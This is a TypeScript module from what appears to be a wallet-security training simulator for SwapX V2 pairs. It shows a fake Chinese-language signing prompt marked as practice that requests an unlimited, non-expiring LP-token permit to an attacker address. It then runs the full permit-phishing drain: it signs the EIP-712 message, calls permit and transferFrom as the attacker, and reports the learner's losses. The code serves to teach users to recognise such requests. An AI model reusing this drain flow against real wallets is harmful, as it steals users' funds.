/** A signature that lets somebody else take the liquidity tokens: the permit of SwapX's V2 pairs. */
import { encodeFunctionData, erc20Abi, maxUint256, parseEther, parseSignature } from 'viem';

import { chainId } from 'swapx-chain/evm/rules';
import { pairAbi } from '../abis';
import { inUsdt, inXoc, written } from '../amounts';
import { shareOf } from '../pools';
import { accountOf, sendAs } from '../session';
import { balanceOf, transfer, transferFrom } from '../tokens';
import type { LayTrap } from './trap';

const DEPOSITED = parseEther('0.00001');

const types = {
  Permit: [
    { name: 'owner', type: 'address' },
    { name: 'spender', type: 'address' },
    { name: 'value', type: 'uint256' },
    { name: 'nonce', type: 'uint256' },
    { name: 'deadline', type: 'uint256' },
  ],
} as const;

export const layPermit: LayTrap = async (session) => {
  const { client, pair, people } = session;
  const account = accountOf(session);
  const { address: owner } = account;
  await sendAs(session, 'deployer', transfer(pair, owner, DEPOSITED));
  const { liquidity: before, xoc, usdt } = await shareOf(session, owner);
  const value = maxUint256;
  const deadline = maxUint256;
  return {
    proposal: {
      title: '签名消息',
      site: '练习：swapx-airdrop.example',
      fields: [
        ['类型', 'Permit'],
        ['代币', 'LP'],
        ['数量', '无限'],
        ['授权给', people.attacker],
        ['有效期', '永不过期'],
        ['Gas 费', '0'],
      ],
    },
    async spring() {
      const gasBefore = await client.getBalance({ address: owner });
      const domain = {
        name: await client.readContract({ address: pair, abi: erc20Abi, functionName: 'name' }),
        version: '1',
        chainId,
        verifyingContract: pair,
      };
      const asked = { address: pair, abi: pairAbi, functionName: 'nonces', args: [owner] } as const;
      const nonce = await client.readContract(asked);
      const message = { owner, spender: people.attacker, value, nonce, deadline };
      const signature = await account.signTypedData({
        domain,
        types,
        primaryType: 'Permit',
        message,
      });
      const { r, s, yParity } = parseSignature(signature);
      const args = [owner, people.attacker, value, deadline, 27 + yParity, r, s] as const;
      const data = encodeFunctionData({ abi: pairAbi, functionName: 'permit', args });
      await sendAs(session, 'attacker', { to: pair, data });
      await sendAs(session, 'attacker', transferFrom(pair, owner, people.attacker, before));
      const left = await balanceOf(session, pair, owner);
      const paid = gasBefore - (await client.getBalance({ address: owner }));
      return [
        `你的 LP 代币：签名之前 ${written(before, 18)}，能取回 ${inXoc(xoc)} 与 ${inUsdt(usdt)}；现在 ${written(left, 18)}。`,
        `你付的 Gas 费：${inXoc(paid)}。两笔交易都是攻击者发出的，凭的是你的签名。`,
      ];
    },
  };
};
